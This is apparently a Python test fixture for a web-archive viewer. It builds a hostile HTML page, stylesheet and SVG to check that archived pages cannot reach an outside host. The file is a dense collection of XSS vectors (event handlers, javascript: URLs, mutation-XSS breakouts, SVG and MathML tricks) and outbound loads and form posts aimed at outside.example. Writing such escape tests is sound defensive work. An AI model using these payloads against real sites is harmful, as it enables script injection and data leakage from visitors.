"""A page that tries whatever a page of others may try; each of its ways out is an address of its own."""

from __future__ import annotations

from ledger_pages import HOME, STORY, answer

OUT = "https://outside.example"

#: An address in the page's own colours that no archive holds.
PAGE = f"""<!DOCTYPE html>
<html lang="en" manifest="{OUT}/manifest" onload="fetch('{OUT}/html-onload')">
<head>
<base href="{OUT}/base/" target="_top">
<title>Hostile</title><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url={OUT}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' data:">
<meta http-equiv="Link" content="<{OUT}/link-header>; rel=preload; as=image">
<meta name="referrer" content="unsafe-url">
<link rel="prefetch" href="{OUT}/prefetch"><link rel="preload" as="image" href="{OUT}/preload">
<link rel="dns-prefetch" href="{OUT}/dns"><link rel="preconnect" href="{OUT}/preconnect">
<link rel="modulepreload" href="{OUT}/module.js"><link rel="manifest" href="{OUT}/app.webmanifest">
<link rel="icon" href="{OUT}/icon.png"><link rel="prerender" href="{OUT}/prerender">
<link rel="stylesheet" href="{OUT}/sheet.css"><link rel="stylesheet" href="javascript:document.title='ran'">
<link rel="stylesheet" href="data:text/css,@import%20'{OUT}/data-sheet.css'">
<link rel="import" href="{OUT}/import.html"><link rel="pingback" href="{OUT}/pingback">
<link rel=stylesheet href="{HOME}/hostile.css">
<script>document.title = 'ran: script'; fetch('{OUT}/script')</script>
<script src="{OUT}/script.js"></script><script type="module">import '{OUT}/module-import.js'</script>
<script type="speculationrules">{{"prefetch": [{{"urls": ["{OUT}/speculation"]}}]}}</script>
<style>@import "{OUT}/style-import.css"; @import url({OUT}/style-import-url.css);
@font-face {{ font-family: out; src: url({OUT}/font.woff2) }}
body {{ background: url("{OUT}/background.png"); font-family: out; --x: url({OUT}/custom.png) }}
p {{ background: u\\72l({OUT}/escaped.png); list-style: image-set("{OUT}/set.png" 1x) }}
h1::after {{ content: "</sty" "le><img src={OUT}/style-trick onerror=document.title='ran'>" }}
html, body {{ position: fixed; inset: 0 }} .seen-bar, header, iframe {{ display: none !important }}
</style>
<style><!-- </style><script>document.title='ran: comment'</script> --></style>
</head>
<body onload="document.title='ran: body'" onpageshow="document.title='ran: pageshow'" background="{OUT}/body.png">
<h1 style="background: url('{OUT}/attribute.png')" onclick="1">Hostile</h1>
<img src="{OUT}/picture.png" onerror="document.title='ran: onerror'" srcset="{OUT}/picture-2x.png 2x"
 lowsrc="{OUT}/low">
<img src="x" onerror=document.title='ran:onerror2'><img data-src="{OUT}/lazy.png" src="//outside.example/relative.png">
<img src="javascript:document.title='ran'"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'
 onload='document.title=1'><image href='{OUT}/in-data.png'/></svg>">
<picture><source srcset="{OUT}/source.png"><img src="{HOME}/hostile.svg" alt="drawing"></picture>
<svg onload="document.title='ran: svg'"><script>document.title='ran: svg script'</script><image href="{OUT}/svg.png"
 xlink:href="{OUT}/svg-xlink.png"/><use href="{OUT}/use.svg#a"/>
 <rect width="9" height="9" fill="url({OUT}/fill.svg#a)" mask="u\\72l({OUT}/mask.svg#a)" filter="url('{OUT}/f.svg#a')"/>
 <foreignObject><iframe href="#x" src="{OUT}/foreign"></iframe>
 <img src="{OUT}/foreign.png" onerror="document.title='ran: foreign'"></foreignObject>
 <style><img src="{OUT}/svg-style.png" onerror="document.title='ran: svg style'"></style>
 <a xlink:href="javascript:document.title='ran'"><text y="20">svg link</text></a>
 <animate attributeName="href" to="javascript:document.title='ran'"/><set attributeName="onload" to="1"/></svg>
<math><mtext><table><mglyph><style><img src="{OUT}/math.png" onerror="document.title='ran: math'"></style></mglyph>
</table></mtext><maction actiontype="statusline#{OUT}" xlink:href="javascript:document.title='ran'">x</maction></math>
<iframe src="{OUT}/iframe"></iframe><iframe srcdoc="<script>parent.document.title='ran'</script><img src={OUT}/srcdoc>">
</iframe><iframe src="javascript:document.title='ran'"></iframe><iframe src="data:text/html,<img src={OUT}/data-frame>">
</iframe><object data="{OUT}/object"><embed src="{OUT}/embed"></object><embed src="{OUT}/embed-2">
<object data="data:text/html,<script>top.document.title='ran'</script>"></object><applet code="{OUT}/applet"></applet>
<portal src="{OUT}/portal"></portal><video src="{OUT}/video.mp4" poster="{OUT}/poster.png" autoplay></video>
<audio autoplay><source src="{OUT}/audio.mp3"><track src="{OUT}/track.vtt" default></audio>
<bgsound src="{OUT}/sound.wav">
<table background="{OUT}/table.png"><tr><td background="{OUT}/cell.png">x</td></tr></table>
<input type="image" src="{OUT}/input.png"><isindex action="{OUT}/isindex">
<template><img src="{OUT}/template.png" onerror="document.title='ran: template'"></template>
<div><template shadowrootmode="open"><img src="{OUT}/shadow.png"><script>document.title='ran'</script></template></div>
<noscript><img src="{OUT}/noscript.png"><p title="</noscript><img src={OUT}/mxss onerror=document.title='ran'>">x</p>
</noscript><xmp><img src={OUT}/xmp onerror=document.title='ran'></xmp>
<noembed><img title="</noembed><img src={OUT}/noembed onerror=document.title='ran'>"></noembed>
<textarea></textarea><textarea><img title="</textarea><img src={OUT}/textarea onerror=document.title='ran'>"></textarea>
<form action="{OUT}/form" method="post" id="f"><input name="secret" value="1" autofocus onfocus="document.title='ran'">
<button id="send">Send</button><button formaction="{OUT}/formaction" id="send2">Send</button></form>
<button form="f" formaction="javascript:document.title='ran'">x</button>
<a id="js" href="javascript:document.title='ran: link'">js</a> <a href=" jAvAsCrIpT&#58;document.title='ran'">js</a>
<a href="java&#10;script:document.title='ran'">js</a> <a href="data:text/html,<script>1</script>">data</a>
<a id="out" href="{OUT}/link" ping="{OUT}/ping" target="_top">a link</a> <a href="vbscript:1">vb</a>
<details open ontoggle="document.title='ran: toggle'"><summary>x</summary></details>
<marquee onstart="document.title='ran: marquee'">x</marquee> <body onhashchange="1">
<div style="background-image: url({OUT}/div.png); behavior: url({OUT}/x.htc); -moz-binding: url({OUT}/x.xml#x)">x</div>
<!--[if IE]><script>document.title='ran'</script><![endif]-->
<!--><img src={OUT}/comment onerror=document.title='ran'>-->
<![CDATA[<img src={OUT}/cdata onerror=document.title='ran'>]]><?php <img src={OUT}/php ?>
<img/src="{OUT}/slash"/onerror="document.title='ran'"><img src=`{OUT}/tick`><a"b onclick=1>odd</a"b>
<link rel="stylesheet" href="{OUT}/late.css"><base href="{OUT}/second/"><plaintext><img src={OUT}/plain onerror=1>"""

CSS = f"""@import "{OUT}/sheet-import.css"; @import url({OUT}/sheet-import-url.css) screen; @namespace url({OUT}/name);
body {{ background: url({OUT}/sheet.png), image-set(url("{OUT}/sheet-set.png") 1x);
 cursor: url({OUT}/cursor.cur), auto }}
@font-face {{ font-family: s; src: url({OUT}/sheet-font.woff) }} h1 {{ font-family: s }}
@supports (a: url({OUT}/supports.png)) {{ p {{ background: url(  "{OUT}/nested.png"  ) }} }}
"""

SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40" onload="fetch(\'{OUT}/svg-onload\')">'
    f'<script>fetch("{OUT}/svg-file-script")</script><image href="{OUT}/svg-file.png" width="9" height="9"/>'
    '<rect width="60" height="40" fill="teal"/></svg>'
)

CAPTURES = (
    answer("/2016/05/trams/", STORY),
    answer("/hostile/", PAGE),
    answer("/hostile.css", CSS, "text/css"),
    answer("/hostile.svg", SVG, "image/svg+xml"),
    answer("/page.jpg", PAGE, "image/jpeg"),
    answer("/wide/", PAGE.encode("utf-16"), "text/html; charset=utf-16"),
)
